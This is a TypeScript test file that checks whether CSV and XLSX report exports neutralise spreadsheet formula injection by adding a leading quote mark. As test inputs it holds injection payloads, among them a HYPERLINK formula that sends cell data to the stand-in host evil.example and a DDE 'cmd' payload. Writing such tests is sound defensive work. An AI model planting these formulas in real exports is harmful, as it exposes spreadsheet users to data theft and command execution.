/**
 * The report exports and spreadsheet formulas (CSV injection, OWASP): a name or code from a feed or a seat that
 * begins with = + - @ TAB or CR reaches the CSV and the XLSX with a leading `'`, so a spreadsheet shows it as
 * text and never runs it; numbers stay numbers.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { reportCsv, reportTables, reportXlsx } from '../../hq/reports';
import type { Report } from '../../shared/contract/review';

/** The six leading characters a spreadsheet may take for the start of a formula, each in a salesperson's name. */
const HOSTILE = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\t=1+1',
  cr: '\r=1+1',
} as const;

const report: Report = {
  from: '2026-11-01T00:00:00.000+08:00',
  to: '2026-12-01T00:00:00.000+08:00',
  coverage: [],
  findingsByBranch: [],
  findingsBySalesperson: Object.entries(HOSTILE).map(([key, name], i) => ({
    salespersonId: `SP-${key}`,
    code: `=CODE${i}`,
    name,
    branchId: 'BR-SH-001',
    total: i + 1,
  })),
  rechecks: [{ branchId: '-BR', sampled: 3, evaluated: 2, passed: 1, failed: 1, averageScore: -1.5 }],
};

/** A minimal CSV reader (quotes, doubled quotes, CRLF rows) to read back what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('report exports and spreadsheet formulas', () => {
  it('writes every cell starting with = + - @ TAB or CR to the CSV with a leading quote mark', () => {
    const csv = reportCsv(reportTables(report).findingsBySalesperson);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(csv.subarray(3).toString('utf8'));
    expect(header).toEqual(['营销人员工号', '姓名', '营业部', '问题数']);
    expect(rows.map((r) => r[1])).toEqual(Object.values(HOSTILE).map((name) => `'${name}`));
    expect(rows.map((r) => r[0])).toEqual(Object.keys(HOSTILE).map((_, i) => `'=CODE${i}`));
    // Counts are left alone; a cell that does not begin with one of the six is too.
    expect(rows.map((r) => [r[2], r[3]])).toEqual(
      Object.keys(HOSTILE).map((_, i) => ['BR-SH-001', `${i + 1}`]),
    );
  });

  it('leaves a negative number a number, and neutralises a text beginning with a minus sign', () => {
    const csv = reportCsv(reportTables(report).rechecks).subarray(3).toString('utf8');
    expect(csv.split('\r\n')[1]).toBe("'-BR,3,2,1,1,-1.5");
  });

  it('writes the same neutralised text to every sheet of the XLSX', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await reportXlsx(report)) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('问题（按营销人员）');
    const names = Object.keys(HOSTILE).map((_, i) => sheet?.getRow(i + 2).getCell(2).value);
    // (XML reads a CR back as a line feed; the quote mark before it is what matters.)
    expect(names).toEqual(Object.values(HOSTILE).map((name) => `'${name.replace('\r', '\n')}`));
    // Text, never a formula cell.
    expect(sheet?.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
    const rechecks = book.getWorksheet('复核评分')?.getRow(2).values;
    expect(rechecks).toEqual([undefined, "'-BR", 3, 2, 1, 1, -1.5]);
  });
});
